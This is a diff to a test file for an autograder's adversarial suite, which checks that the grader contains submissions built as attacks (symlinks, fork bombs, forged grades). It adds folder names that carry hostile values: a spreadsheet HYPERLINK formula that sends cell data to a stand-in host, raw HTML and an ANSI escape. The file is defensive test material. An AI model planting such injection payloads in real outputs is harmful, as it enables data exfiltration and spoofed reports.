@@ -65,6 +65,14 @@ ATTACKS = {  # attack: the start of each task's value
     "attack-malformed": ["crashed: malformed reply"] + WRONG[1:],
     "attack-link-solution": ["invalid: a symbolic link"] * 3, "attack-link-classmate": ["invalid: a symbolic link"] * 3,
     "attack-link-huge": ["invalid: a symbolic link"] * 3, "attack-huge-file": ["invalid: larger than"] * 3,
+    # issue 30
+    "attack-disguised-twin": ["correct"] + WRONG[1:], "attack-odd-message": [WRONG[0], "crashed: ValueError", WRONG[2]],
+    "attack-long-sum": WRONG, "attack-grader-object": WRONG, "attack-fills-folder": WRONG,
+}
+ODD_NAMES = {  # folders made by the test (issue 30): each holds alice's notebook and grades 3 of 3
+    b"=HYPERLINK(\"http://x.example/?\"&A1,\"click\")": "'=HYPERLINK(",
+    b"forged\n# Heading <img src=x.example>": "forged # Heading <img src=x.example>",
+    b"caf\xe9 \x1b[31m(Latin-1)": "caf\\xe9  [31m(Latin-1)",
 }
 NEEDS = {  # attacks that are safe to run, and can hold, only with this isolation
     "attack-read-solutions": ("bubblewrap",),
@@ -72,6 +80,7 @@ NEEDS = {  # attacks that are safe to run, and can hold, only with this isolatio
     "attack-delete-classmate": ("bubblewrap", "separate user"),
     "attack-detached": ("bubblewrap", "separate user"),  # it writes to every grades*.csv it can find
     "attack-fork-bomb": ("bubblewrap", "separate user", "non-root"),  # a process limit
+    "attack-fills-folder": ("bubblewrap",),  # elsewhere its folder is checked after the task: "crashed: ... wrote"
 }
 COLUMNS = ["causal_mask", "masked_attention", "leaks_future"]
 TIMEOUTS = ["--timeout", "120", "--task-timeout", "20"]
@@ -151,6 +160,10 @@ def graded(tmp_path_factory, isolation):
         (folder / name / "05_causal_mask.ipynb").symlink_to(target)
     with (top / "huge.bin").open("wb") as f:
         f.truncate(2**30)  # 1 GiB, sparse
+    for name in ODD_NAMES:
+        odd = os.path.join(os.fsencode(folder), name)
+        os.mkdir(odd)
+        shutil.copy(folder / "alice" / "05_causal_mask.ipynb", os.path.join(odd, b"05 \xe9\xff.ipynb"))
     (folder / "attack-huge-file").mkdir()
     with (folder / "attack-huge-file" / "05_causal_mask.ipynb").open("wb") as f:
         f.truncate(40 * 2**20)
@@ -203,6 +216,9 @@ def test_each_attack_grades_zero_on_its_own_row(graded, isolation, attack):
     if attack == "attack-copy-package":  # right, as computed; a copy of the course's code, flagged
         assert row["correct"] == "1" and row["flags"] == (
             "masked_attention: copy of course_utils.core.attention.scaled_dot_product_attention")
+    elif attack == "attack-disguised-twin":  # right, as computed; what the static check cannot follow, flagged
+        assert row["correct"] == "1" and row["flags"] == (
+            "causal_mask: reaches the course's package (dynamic code (getattr)): look at it")
     else:
         assert row["correct"] == "0"
 
@@ -215,7 +231,18 @@ def test_the_table_and_report_hold_no_forged_text(graded):
     report = graded["out"].with_name("grades_report.md").read_text(encoding="utf-8")
     for text in (graded["csv_right_after"], report):
         assert "COURSE-GRADE" not in text and "[correct]" not in text and str(graded["top"]) not in text
-    assert "## Answers that copy the course's code" in report and "attack-copy-package" in report
+    assert "## Answers to look at" in report and "attack-copy-package" in report
+
+
+def test_odd_names_are_graded_and_everything_written_is_safe_to_open(graded):
+    """Names with any byte become their own rows; grades.csv and the reports hold no formula, no raw HTML
+    and no control character (the check of tests/test_grade.py)."""
+    from test_grade import assert_safe_outputs
+
+    for start in ODD_NAMES.values():
+        rows = [r for name, r in graded["rows"].items() if name.startswith(start)]
+        assert len(rows) == 1 and rows[0]["correct"] == "3", (start, rows)
+    assert_safe_outputs(graded["out"], [graded["out"].with_name(f"grades_report.{ext}") for ext in ("md", "html")])
 
 
 def test_nothing_outside_the_private_folders_changed(graded, isolation):
